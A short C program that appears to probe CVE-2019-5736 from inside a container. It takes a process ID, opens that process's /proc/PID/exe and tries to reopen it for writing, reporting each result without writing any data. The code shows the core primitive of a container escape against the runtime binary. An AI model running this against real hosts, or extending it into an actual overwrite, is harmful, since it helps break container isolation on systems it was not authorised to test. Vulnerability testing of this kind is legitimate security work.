/* CVE-2019-5736 from the container: get a handle on the runtime's binary
 * through /proc/PID/exe and reopen it for writing. Prints one line per
 * attempt. Never writes a byte: opening for writing is the escape. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *res(int fd) { return fd < 0 ? strerrorname_np(errno) : "ok"; }

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: exe PID\n");
        return 2;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    int handle = open(path, O_PATH | O_CLOEXEC);
    printf("handle: %s\n", res(handle));
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    printf("write-open: %s\n", res(fd));
    if (fd >= 0)
        close(fd);
    if (handle >= 0) {
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
        fd = open(again, O_WRONLY | O_CLOEXEC);
        printf("reopen-write: %s\n", res(fd));
        if (fd >= 0)
            close(fd);
    }
    fflush(stdout);
    return 0;
}
